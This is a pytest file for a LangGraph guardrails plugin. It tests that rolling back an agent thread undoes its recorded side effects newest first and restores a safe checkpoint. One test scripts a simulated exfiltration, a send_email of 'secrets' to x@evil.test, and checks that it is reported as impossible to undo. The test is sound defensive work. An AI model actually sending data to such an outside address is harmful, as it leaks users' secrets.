"""Rollback: compensations run newest first, exactly once, and the thread returns to a safe point.

Real graphs (``rollback_worker.build_graph``) on real checkpointers (in memory, SQLite,
Postgres), real side effects (files and SQLite rows under ``tmp_path``), a real ``Store``.
The crash tests, with processes killed mid-rollback, are in ``test_rollback_crash.py``.
"""

from __future__ import annotations

import doctest
import sqlite3
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from langchain_core.runnables import RunnableConfig
from langgraph.checkpoint.base import BaseCheckpointSaver
from langgraph.checkpoint.base.id import uuid6
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.checkpoint.postgres import PostgresSaver
from langgraph.checkpoint.postgres.aio import AsyncPostgresSaver
from langgraph.checkpoint.sqlite import SqliteSaver
from langgraph.checkpoint.sqlite.aio import AsyncSqliteSaver
from langgraph.graph import START, StateGraph
from rollback_worker import LIMITS, Crash, Run, World, action, build_graph

import guardrails_plugin.rollback
from guardrails_plugin import StoreError, ToolCall
from guardrails_plugin.langgraph._recovery import Recovery, RollbackReport
from guardrails_plugin.rollback import (
    Compensations,
    EffectStatus,
    Journal,
    RollbackError,
    SideEffect,
    aundo_effects,
    undo_effects,
)
from guardrails_plugin.store import MemoryStore, SQLiteStore, Store

# -- the scripted run most tests roll back -------------------------------------------------
#
#   step  action  tool        safe point  violation
#   0     a       write_file  yes
#   1     r1      insert_row  yes
#   2     b       write_file  no
#   3     r2      insert_row  no          no-r2     <- the first violation
#   4     c       write_file  yes         no-c
#
# The last safe point at or before the first violation is the one of step 1 (r1): rolling
# back undoes c, r2, b, r1 (newest first) and keeps a.

SCRIPT = [
    action("a", "write_file", path="a.txt", text="A"),
    action("r1", "insert_row", id="r1", value="1"),
    action("b", "write_file", risky=False, path="b.txt", text="B"),
    action("r2", "insert_row", risky=False, violates="no-r2", id="r2", value="2"),
    action("c", "write_file", violates="no-c", path="c.txt", text="C"),
]


@dataclass
class Agent:
    """One thread of the scripted run, with everything a test looks at."""

    world: World
    journal: Journal
    compensations: Compensations
    recovery: Recovery
    config: RunnableConfig

    @property
    def graph(self) -> Any:
        return self.recovery.graph

    def effect(self, name: str) -> SideEffect:
        (found,) = [e for e in self.journal.effects(self.thread) if e.call_id == name]
        return found

    def keys(self, *names: str) -> list[str]:
        return [self.effect(name).key for name in names]

    @property
    def thread(self) -> str:
        return str(self.config["configurable"]["thread_id"])

    def checkpoint_before(self, done: list[str]) -> str:
        """The checkpoint where ``done`` holds exactly these actions and one is next."""
        (snapshot,) = [
            s
            for s in self.recovery.history(self.config)
            if s.values.get("done", []) == done and s.next == ("act",)
        ]
        return str(snapshot.config["configurable"]["checkpoint_id"])

    def values_at(self, checkpoint_id: str) -> dict[str, Any]:
        config = {"configurable": {"thread_id": self.thread, "checkpoint_id": checkpoint_id}}
        return dict(self.graph.get_state(config).values)

    def invoked(self) -> list[str]:
        return [key for key, _, _ in self.world.invocations()]


def new_config() -> RunnableConfig:
    # One Postgres database serves the session: every test gets threads of its own.
    return {"configurable": {"thread_id": f"thread/{uuid.uuid4()}"}, **LIMITS}


def make_agent(
    tmp_path: Path,
    saver: BaseCheckpointSaver[Any],
    store: Store,
    *,
    asynchronous: bool = False,
) -> Agent:
    world = World(tmp_path / "world")
    journal = Journal(store)
    compensations = world.compensations(asynchronous=asynchronous)
    graph = build_graph(world, journal, compensations, saver, asynchronous=asynchronous)
    return Agent(
        world, journal, compensations, Recovery(graph, journal, compensations), new_config()
    )


@pytest.fixture(params=["memory", "sqlite", "postgres"])
def backend(
    request: pytest.FixtureRequest, tmp_path: Path
) -> Iterator[tuple[BaseCheckpointSaver[Any], Store]]:
    """A checkpointer and the journal's store: the SQLite store shares the checkpointer's file."""
    if request.param == "memory":
        yield InMemorySaver(), MemoryStore()
    elif request.param == "sqlite":
        db = sqlite3.connect(tmp_path / "graph.db", check_same_thread=False)
        store = SQLiteStore(tmp_path / "graph.db")
        yield SqliteSaver(db), store
        store.close()
        db.close()
    else:
        url = request.getfixturevalue("postgres_url")
        store = SQLiteStore(tmp_path / "journal.db")
        with PostgresSaver.from_conn_string(url) as saver:
            saver.setup()
            yield saver, store
        store.close()


@pytest.fixture(params=["memory", "sqlite", "postgres"])
async def abackend(
    request: pytest.FixtureRequest, tmp_path: Path
) -> AsyncIterator[tuple[BaseCheckpointSaver[Any], Store]]:
    if request.param == "memory":
        yield InMemorySaver(), MemoryStore()
    elif request.param == "sqlite":
        store = SQLiteStore(tmp_path / "graph.db")
        async with AsyncSqliteSaver.from_conn_string(str(tmp_path / "graph.db")) as saver:
            yield saver, store
        store.close()
    else:
        url = request.getfixturevalue("postgres_url")
        store = SQLiteStore(tmp_path / "journal.db")
        async with AsyncPostgresSaver.from_conn_string(url) as saver:
            await saver.setup()
            yield saver, store
        store.close()


@pytest.fixture
def agent(tmp_path: Path) -> Agent:
    """The scripted run, finished, in memory."""
    agent = make_agent(tmp_path, InMemorySaver(), MemoryStore())
    agent.graph.invoke({"todo": SCRIPT}, agent.config)
    return agent


# -- rolling a graph back ------------------------------------------------------------------


def test_rollback_returns_to_the_last_safe_point_before_the_first_violation(
    tmp_path: Path, backend: tuple[BaseCheckpointSaver[Any], Store]
) -> None:
    agent = make_agent(tmp_path, *backend)
    agent.graph.invoke({"todo": SCRIPT}, agent.config)
    assert agent.world.file_names() == ["a.txt", "b.txt", "c.txt"]
    assert agent.world.rows() == ["r1", "r2"]
    safe = agent.checkpoint_before(["a"])  # the checkpoint step 1 (r1) started from
    target_values = agent.values_at(safe)
    untouched = agent.effect("a")

    report = agent.recovery.rollback(agent.config)

    assert report.ok, str(report)
    assert report.target == safe
    assert report.violation is not None
    assert report.violation.rule == "no-r2"
    # The compensations ran newest first, each once, and left older effects alone.
    assert agent.invoked() == agent.keys("c", "r2", "b", "r1")
    assert [e.key for e in report.undo.undone] == agent.keys("c", "r2", "b", "r1")
    assert agent.world.file_names() == ["a.txt"]
    assert agent.world.rows() == []
    assert agent.effect("a") == untouched
    assert {e.status for e in agent.journal.effects(agent.thread) if e.call_id != "a"} == {
        EffectStatus.UNDONE
    }
    # The thread's state is the safe point's, as the newest checkpoint.
    state = agent.graph.get_state(agent.config)
    assert state.values == target_values == {"todo": SCRIPT[1:], "done": ["a"]}
    assert state.next == ("act",)
    assert state.config["configurable"]["checkpoint_id"] == report.new_checkpoint_id
    # The journal keeps the rollback, and the violation is dealt with.
    (record,) = agent.recovery.rollbacks(agent.config)
    assert record.ok
    assert record.target == safe
    assert record.undone == tuple(agent.keys("c", "r2", "b", "r1"))
    with pytest.raises(RollbackError, match="no violation recorded since the rollback"):
        agent.recovery.rollback(agent.config)


def test_rollback_to_a_given_checkpoint_undoes_what_came_after_it(agent: Agent) -> None:
    target = agent.checkpoint_before(["a", "r1"])  # b, r2 and c ran from here on
    report = agent.recovery.rollback(agent.config, to=target)

    assert report.ok
    assert report.target == target
    assert report.violation is None
    assert agent.invoked() == agent.keys("c", "r2", "b")
    assert agent.world.file_names() == ["a.txt"]
    assert agent.world.rows() == ["r1"]
    assert agent.graph.get_state(agent.config).values["done"] == ["a", "r1"]


def test_resumed_thread_runs_on_and_a_new_violation_rolls_back_on_the_new_branch(
    agent: Agent,
) -> None:
    first = agent.recovery.rollback(agent.config)
    assert first.ok
    agent.world.log_path.unlink()

    # Resumed, the thread redoes r1, b, r2 (a violation again) and c on a new branch.
    agent.graph.invoke(None, agent.config)
    assert agent.world.rows() == ["r1", "r2"]
    second = agent.recovery.rollback(agent.config)

    # The safe point it returns to is the fork the first rollback made (where r1 reran),
    # not the old branch's safe point with the same values.
    assert second.ok
    assert second.target == first.new_checkpoint_id
    assert len(second.undo.undone) == 4
    assert agent.world.rows() == []
    assert agent.world.file_names() == ["a.txt"]
    assert agent.graph.get_state(agent.config).values["done"] == ["a"]


def test_safe_points_on_a_branch_a_rollback_abandoned_are_not_returned_to(agent: Agent) -> None:
    safe_r1 = agent.checkpoint_before(["a"])
    old_c = agent.checkpoint_before(["a", "r1", "b", "r2"])  # a safe point, before c
    # Back to before b (not a risky step: no safe point there), then resumed: b and r2 run
    # again, r2 violating again before any risky step.
    assert agent.recovery.rollback(agent.config, to=agent.checkpoint_before(["a", "r1"])).ok
    agent.graph.invoke(None, agent.config)
    assert old_c in {p.checkpoint_id for p in agent.recovery.safe_points(agent.config)}

    report = agent.recovery.rollback(agent.config)

    # The old branch's safe point before c is newer, but the new violation did not come
    # from there: the last safe point on its own path is r1's.
    assert report.target == safe_r1, str(report)
    assert report.ok
    assert agent.world.rows() == []
    assert agent.world.file_names() == ["a.txt"]
    assert agent.graph.get_state(agent.config).values["done"] == ["a"]


def test_failed_compensation_is_reported_and_retried_by_the_next_rollback(agent: Agent) -> None:
    final_state = agent.graph.get_state(agent.config)
    failing = agent.effect("b").key

    def fail_b_once(effect: SideEffect) -> None:
        if effect.key == failing and effect.attempts == 1:
            raise OSError("disk is read-only")

    agent.world.before_undo = fail_b_once
    report = agent.recovery.rollback(agent.config)

    assert not report.ok
    assert not report.restored
    assert [e.key for e in report.undo.undone] == agent.keys("c", "r2")
    assert [e.key for e in report.undo.failed] == [failing]
    assert report.undo.failed[0].error == "OSError: disk is read-only"
    # Stopped at the failure: r1 is older than b and may be what b depends on.
    assert [e.key for e in report.undo.not_attempted] == agent.keys("r1")
    assert agent.world.rows() == ["r1"]
    assert "FAILED (1)" in str(report)
    assert "state NOT restored" in str(report)
    # The state is left as it was, and the journal says what happened.
    assert agent.graph.get_state(agent.config).config == final_state.config
    assert agent.effect("b").status is EffectStatus.FAILED
    (record,) = agent.journal.rollbacks(agent.thread)
    assert not record.ok
    assert record.failed == (failing,)
    assert not record.restored

    retry = agent.recovery.rollback(agent.config)

    assert retry.ok, str(retry)
    assert [e.key for e in retry.undo.undone] == agent.keys("b", "r1")
    assert agent.effect("b").attempts == 2
    assert agent.invoked() == agent.keys("c", "r2", "b", "b", "r1")  # c, r2 not again
    assert agent.world.file_names() == ["a.txt"]
    assert agent.world.rows() == []
    assert agent.graph.get_state(agent.config).values["done"] == ["a"]


def test_tool_without_compensation_is_reported_as_cannot_undo(tmp_path: Path) -> None:
    agent = make_agent(tmp_path, InMemorySaver(), MemoryStore())
    script = [
        action("a", "write_file", path="a.txt", text="A"),
        action("mail", "send_email", violates="exfiltration", to="x@evil.test", body="secrets"),
        action("b", "write_file", path="b.txt", text="B"),
    ]
    agent.graph.invoke({"todo": script}, agent.config)

    report = agent.recovery.rollback(agent.config)

    assert not report.ok
    assert [e.key for e in report.undo.undone] == agent.keys("b")
    assert [e.key for e in report.undo.not_undoable] == agent.keys("mail")
    assert "CANNOT UNDO (1)" in str(report)
    assert "'send_email'" in str(report)
    # Nothing can change that later, so the state is restored all the same, and the undo
    # went on past it to older effects.
    assert report.restored
    assert agent.graph.get_state(agent.config).values["done"] == ["a"]
    mail = agent.effect("mail")
    assert mail.status is EffectStatus.DONE
    assert mail.note is not None
    assert "no compensation" in mail.note
    (record,) = agent.journal.rollbacks(agent.thread)
    assert record.not_undoable == (mail.key,)
    assert not record.ok
    assert (agent.world.root / "outbox.txt").read_text() == "x@evil.test: secrets\n"


def test_interrupted_idempotent_undo_runs_again_with_the_same_key(agent: Agent) -> None:
    crashing = agent.effect("r2").key

    def crash_after_work(effect: SideEffect) -> None:
        if effect.key == crashing and effect.attempts == 1:
            raise Crash  # the undo did its work, the journal never heard

    agent.world.after_undo = crash_after_work
    with pytest.raises(Crash):
        agent.recovery.rollback(agent.config)
    assert agent.effect("r2").status is EffectStatus.UNDOING

    report = agent.recovery.rollback(agent.config)

    assert report.ok
    assert [e.key for e in report.undo.undone] == agent.keys("r2", "b", "r1")
    assert [(key, attempt) for key, _, attempt in agent.world.invocations()] == [
        (agent.effect("c").key, 1),
        (crashing, 1),
        (crashing, 2),
        (agent.effect("b").key, 1),
        (agent.effect("r1").key, 1),
    ]


def test_interrupted_non_idempotent_undo_is_in_doubt_until_a_person_settles_it(
    tmp_path: Path,
) -> None:
    agent = make_agent(tmp_path, InMemorySaver(), MemoryStore())
    script = [
        action("c1", "charge", id="c1", amount=10.0),
        action("c2", "charge", id="c2", amount=20.0),
        action("c3", "charge", violates="too-much", id="c3", amount=30.0),
    ]
    agent.graph.invoke({"todo": script}, agent.config)
    # The violating step is risky: its own start is the last safe point, so only c3 goes;
    # roll back further, to before c1.
    start = agent.checkpoint_before([])
    refunding = agent.effect("c2").key

    def crash_after_refund(effect: SideEffect) -> None:
        if effect.key == refunding:
            raise Crash

    agent.world.after_undo = crash_after_refund
    with pytest.raises(Crash):
        agent.recovery.rollback(agent.config, to=start)
    agent.world.after_undo = None

    report = agent.recovery.rollback(agent.config, to=start)

    # A refund is not idempotent: running it again could pay twice. Nobody knows if the
    # first one went through, so it is not run, and the undo stops there.
    assert not report.ok
    assert not report.restored
    assert [e.key for e in report.undo.in_doubt] == [refunding]
    assert [e.key for e in report.undo.not_attempted] == agent.keys("c1")
    assert agent.world.refunds() == ["c3", "c2"]  # c2 refunded once, c1 not yet
    assert agent.effect("c2").status is EffectStatus.IN_DOUBT
    assert "IN DOUBT" in str(report)
    # Running again changes nothing until a person looks.
    again = agent.recovery.rollback(agent.config, to=start)
    assert [e.key for e in again.undo.in_doubt] == [refunding]
    assert not again.ok

    settled = agent.journal.settle(agent.thread, refunding, undone=True, note="saw refund R-2")
    assert settled.status is EffectStatus.UNDONE
    assert "saw refund R-2" in (settled.note or "")
    done = agent.recovery.rollback(agent.config, to=start)

    assert done.ok
    assert [e.key for e in done.undo.undone] == agent.keys("c1")
    assert agent.world.refunds() == ["c3", "c2", "c1"]
    assert agent.graph.get_state(agent.config).values["done"] == []


def test_safe_points_and_violations_are_listed_newest_first(agent: Agent) -> None:
    agent.journal.mark_safe_point(agent.thread, str(uuid6()), reason="not in this history")

    points = agent.recovery.safe_points(agent.config)

    assert [p.checkpoint_id for p in points] == [
        agent.checkpoint_before(["a", "r1", "b", "r2"]),
        agent.checkpoint_before(["a"]),
        agent.checkpoint_before([]),
    ]
    assert [v.rule for v in agent.recovery.violations(agent.config)] == ["no-c", "no-r2"]
    assert agent.recovery.target(agent.config) == agent.checkpoint_before(["a"])
    assert agent.invoked() == []  # looking changes nothing


def test_rollback_without_a_target_says_so(tmp_path: Path, agent: Agent) -> None:
    calm = make_agent(tmp_path / "calm", InMemorySaver(), MemoryStore())
    calm.graph.invoke({"todo": SCRIPT[:2]}, calm.config)
    with pytest.raises(RollbackError, match="no violation recorded"):
        calm.recovery.rollback(calm.config)
    with pytest.raises(RollbackError, match="is not in thread"):
        agent.recovery.rollback(agent.config, to=str(uuid6()))
    with pytest.raises(RollbackError, match="which thread"):
        agent.recovery.rollback({"configurable": {}})
    unsafe = make_agent(tmp_path / "unsafe", InMemorySaver(), MemoryStore())
    unsafe.graph.invoke(
        {"todo": [action("x", "write_file", risky=False, violates="r", path="x", text="")]},
        unsafe.config,
    )
    with pytest.raises(RollbackError, match="no safe point at or before"):
        unsafe.recovery.rollback(unsafe.config)
    assert agent.invoked() == []
    assert calm.invoked() == []
    assert unsafe.invoked() == []


def test_safe_points_never_saved_by_the_checkpointer_are_explained(tmp_path: Path) -> None:
    agent = make_agent(tmp_path, InMemorySaver(), MemoryStore())
    # durability="exit" saves the last checkpoint only: the safe points name checkpoints
    # that never reached the checkpointer.
    agent.graph.invoke({"todo": SCRIPT}, agent.config, durability="exit")
    assert len(agent.recovery.history(agent.config)) == 1
    assert agent.recovery.safe_points(agent.config) == []

    with pytest.raises(RollbackError, match="durability='exit'"):
        agent.recovery.rollback(agent.config)
    assert agent.invoked() == []


def test_recovery_needs_a_graph_with_a_checkpointer() -> None:
    builder = StateGraph(Run)
    builder.add_node("act", lambda state: {})
    builder.add_edge(START, "act")
    with pytest.raises(RollbackError, match="no checkpointer"):
        Recovery(builder.compile(), MemoryStore(), Compensations())


async def test_arollback_undoes_with_async_compensations_and_restores(
    tmp_path: Path, abackend: tuple[BaseCheckpointSaver[Any], Store]
) -> None:
    agent = make_agent(tmp_path, *abackend, asynchronous=True)
    await agent.graph.ainvoke({"todo": SCRIPT}, agent.config)
    safe = (await agent.recovery.asafe_points(agent.config))[1].checkpoint_id
    assert await agent.recovery.atarget(agent.config) == safe
    failing = (await agent.journal.aeffects(agent.thread))[2].key  # b

    def fail_b_once(effect: SideEffect) -> None:
        if effect.key == failing and effect.attempts == 1:
            raise OSError("busy")

    agent.world.before_undo = fail_b_once
    first = await agent.recovery.arollback(agent.config)
    assert not first.ok
    assert [e.key for e in first.undo.failed] == [failing]

    report = await agent.recovery.arollback(agent.config)

    assert report.ok, str(report)
    assert report.target == safe
    effects = {e.call_id: e for e in await agent.journal.aeffects(agent.thread)}
    assert agent.invoked() == [effects[n].key for n in ("c", "r2", "b", "b", "r1")]
    assert agent.world.file_names() == ["a.txt"]
    assert agent.world.rows() == []
    state = await agent.graph.aget_state(agent.config)
    assert state.values == {"todo": SCRIPT[1:], "done": ["a"]}
    assert [r.ok for r in await agent.recovery.arollbacks(agent.config)] == [True, False]
    assert [v.rule for v in await agent.recovery.aviolations(agent.config)] == ["no-c", "no-r2"]
    with pytest.raises(RollbackError, match="no violation recorded since"):
        await agent.recovery.arollback(agent.config)


def test_report_reads_as_a_summary(agent: Agent) -> None:
    report = agent.recovery.rollback(agent.config)
    text = str(report)
    assert isinstance(report, RollbackReport)
    assert text.splitlines()[0].endswith(": ok")
    assert "last safe point before the violation of rule 'no-r2'" in text
    assert f"state restored as checkpoint {report.new_checkpoint_id}" in text
    assert "undone (4):" in text
    assert agent.effect("c").key in text


# -- the journal and the undo, without a graph ---------------------------------------------


def test_compensations_hold_one_undo_per_tool() -> None:
    compensations = Compensations()

    @compensations.undo("send_email", idempotent=False)
    def recall(effect: SideEffect) -> None: ...

    compensations.register("write_file", lambda effect: None)
    assert "send_email" in compensations
    assert "read_file" not in compensations
    assert compensations.for_tool("read_file") is None
    recall_entry = compensations.for_tool("send_email")
    assert recall_entry is not None
    assert recall_entry.undo is recall
    assert not recall_entry.idempotent
    assert repr(compensations) == "Compensations(['send_email', 'write_file'])"
    assert "recall, idempotent=False" in repr(recall_entry)
    with pytest.raises(ValueError, match="already has a compensation"):
        compensations.register("send_email", recall)
    with pytest.raises(TypeError, match="must be callable"):
        compensations.register("x", "not a function")  # type: ignore[arg-type]


def test_capture_records_what_the_undo_needs_as_json() -> None:
    compensations = Compensations()
    compensations.register("post", lambda e: None, capture=lambda args, result: {"id": result})
    compensations.register("bad", lambda e: None, capture=lambda args, result: {"obj": object()})

    assert compensations.capture("post", {"text": "hi"}, "p-1") == {"id": "p-1"}
    # Without a capture: the arguments (made JSON) and the result as text.
    assert compensations.capture("other", {"n": 1, "at": Path("/x")}, 42) == {
        "args": {"n": 1, "at": "PosixPath('/x')"},
        "result": "42",
    }
    with pytest.raises(TypeError, match="captured for tool 'bad' is not JSON-serializable"):
        compensations.capture("bad", {}, None)


def test_effect_round_trips_through_json() -> None:
    journal = Journal(MemoryStore(), clock=lambda: 123.0)
    call = ToolCall("write_file", {"path": "a", "n": [1, 2]}, agent="writer", call_id="c-1")
    effect = journal.record_effect("t", str(uuid6()), "", call, {"path": "a"})

    assert SideEffect.from_json(effect.to_json()) == effect
    assert journal.effects("t") == [effect]
    assert effect.key == effect.id
    assert effect.recorded_at == 123.0
    assert effect.status is EffectStatus.DONE
    assert effect.attempts == 0
    assert dict(effect.args) == {"path": "a", "n": [1, 2]}
    assert repr(effect).startswith(f"SideEffect({effect.id!r}, tool='write_file', status='done'")
    with pytest.raises(ValueError, match="attempts must be int"):
        SideEffect.from_json({**effect.to_json(), "attempts": "1"})
    with pytest.raises(ValueError, match="must be a LangGraph checkpoint id"):
        journal.record_effect("t", str(uuid.uuid4()), "", call, {})


def test_journal_keeps_each_thread_to_itself() -> None:
    journal = Journal(MemoryStore())
    call = ToolCall("write_file", {})
    mine = journal.record_effect("a", None, "", call, {})
    theirs = journal.record_effect("a/effect/x", None, "", call, {})  # a prefix trap

    assert journal.effects("a") == [mine]
    assert journal.effects("a/effect/x") == [theirs]


def test_unreadable_journal_entry_is_a_store_error() -> None:
    store = MemoryStore()
    journal = Journal(store)
    effect = journal.record_effect("t", None, "", ToolCall("x", {}), {})
    store.put(f"journal/t/effect/{effect.id}", {**effect.to_json(), "status": "gone"})

    with pytest.raises(StoreError, match=r"journal entry 'journal/t/effect/.*' is unreadable"):
        journal.effects("t")


def test_undo_selects_effects_from_the_checkpoint_on_placing_unplaced_ones_by_time() -> None:
    journal = Journal(MemoryStore())
    undone: list[str] = []
    compensations = Compensations()
    compensations.register("t", lambda effect: undone.append(effect.args["n"]))

    def record(n: str, checkpoint: str | None) -> SideEffect:
        return journal.record_effect("th", checkpoint, "", ToolCall("t", {"n": n}), {})

    before = str(uuid6())
    early = record("early", None)  # recorded before the cut was made
    at_before = record("at-before", before)
    cut = str(uuid6())
    record("late", None)  # recorded after: placed from the cut on
    record("at-cut", cut)
    record("after", str(uuid6()))

    report = undo_effects(journal, compensations, "th", after_checkpoint=cut)

    assert report.ok
    assert undone == ["after", "at-cut", "late"]  # newest first, none before the cut
    assert [e.args["n"] for e in report.undone] == undone
    assert journal.effects("th")[:2] == [early, at_before]  # untouched


def test_sync_undo_refuses_async_compensations_before_running_anything() -> None:
    journal = Journal(MemoryStore())
    ran: list[str] = []
    compensations = Compensations()
    compensations.register("sync", lambda effect: ran.append("sync"))

    async def undo_async(effect: SideEffect) -> None:
        ran.append("async")

    compensations.register("async", undo_async)
    journal.record_effect("t", None, "", ToolCall("async", {}), {})
    journal.record_effect("t", None, "", ToolCall("sync", {}), {})

    with pytest.raises(RollbackError, match="'async' is async: undo with aundo_effects"):
        undo_effects(journal, compensations, "t", after_checkpoint=None)
    assert ran == []
    assert {e.status for e in journal.effects("t")} == {EffectStatus.DONE}


async def test_aundo_effects_awaits_async_compensations_and_calls_sync_ones() -> None:
    journal = Journal(SQLiteStore(":memory:"))
    ran: list[str] = []
    compensations = Compensations()
    compensations.register("sync", lambda effect: ran.append(f"sync {effect.attempts}"))

    async def undo_async(effect: SideEffect) -> None:
        ran.append(f"async {effect.attempts}")

    compensations.register("async", undo_async)
    await journal.arecord_effect("t", None, "", ToolCall("async", {}), {})
    await journal.arecord_effect("t", None, "", ToolCall("sync", {}), {})

    report = await aundo_effects(journal, compensations, "t", after_checkpoint=None)

    assert report.ok
    assert ran == ["sync 1", "async 1"]
    assert {e.status for e in await journal.aeffects("t")} == {EffectStatus.UNDONE}
    assert str(report).startswith("undo of thread 't' (all effects): ok")


async def test_settle_needs_a_known_effect_and_a_note() -> None:
    journal = Journal(MemoryStore())
    effect = await journal.arecord_effect("t", None, "", ToolCall("x", {}), {})
    with pytest.raises(ValueError, match="needs a note"):
        journal.settle("t", effect.id, undone=True, note=" ")
    with pytest.raises(RollbackError, match="no effect at"):
        await journal.asettle("t", "nope", undone=True, note="checked")
    failed = replace(effect, status=EffectStatus.FAILED, error="boom")
    await journal.asave_effect(failed)
    still_there = await journal.asettle("t", effect.id, undone=False, note="refund bounced")
    assert still_there.status is EffectStatus.DONE  # the next rollback tries again
    assert journal.effects("t") == [still_there]


def test_docstring_examples_hold() -> None:
    result = doctest.testmod(guardrails_plugin.rollback)
    assert result.failed == 0
    assert result.attempted >= 10
